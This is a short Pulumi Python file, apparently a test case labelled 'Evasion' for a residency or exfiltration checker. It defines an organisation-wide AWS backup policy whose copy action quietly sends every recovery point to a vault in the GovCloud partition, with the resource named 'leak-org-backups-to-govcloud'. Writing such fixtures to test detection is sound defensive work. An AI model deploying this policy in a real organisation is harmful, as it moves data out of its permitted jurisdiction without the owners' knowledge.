"""Evasion: an organisation-wide backup policy copies every recovery point to a vault in GovCloud (aws-us-gov)."""

import json

import pulumi
import pulumi_aws as aws

aws.organizations.Policy(
    "leak-org-backups-to-govcloud",
    name="daily-backups",
    type="BACKUP_POLICY",
    content=json.dumps({
        "plans": {
            "daily": {
                "regions": {"@@assign": ["eu-west-3"]},
                "rules": {
                    "daily": {
                        "schedule_expression": {"@@assign": "cron(0 5 ? * * *)"},
                        "target_backup_vault_name": {"@@assign": "Default"},
                        "lifecycle": {"delete_after_days": {"@@assign": "35"}},
                        "copy_actions": {
                            "arn:aws-us-gov:backup:us-gov-west-1:$account:backup-vault:Default": {
                                "target_backup_vault_arn": {
                                    "@@assign": "arn:aws-us-gov:backup:us-gov-west-1:$account:backup-vault:Default",
                                },
                                "lifecycle": {"delete_after_days": {"@@assign": "35"}},
                            },
                        },
                    },
                },
                "selections": {
                    "tags": {
                        "datatype": {
                            "iam_role_arn": {"@@assign": "arn:aws:iam::$account:role/backup"},
                            "tag_key": {"@@assign": "backup"},
                            "tag_value": {"@@assign": ["daily"]},
                        },
                    },
                },
            },
        },
    }),
)
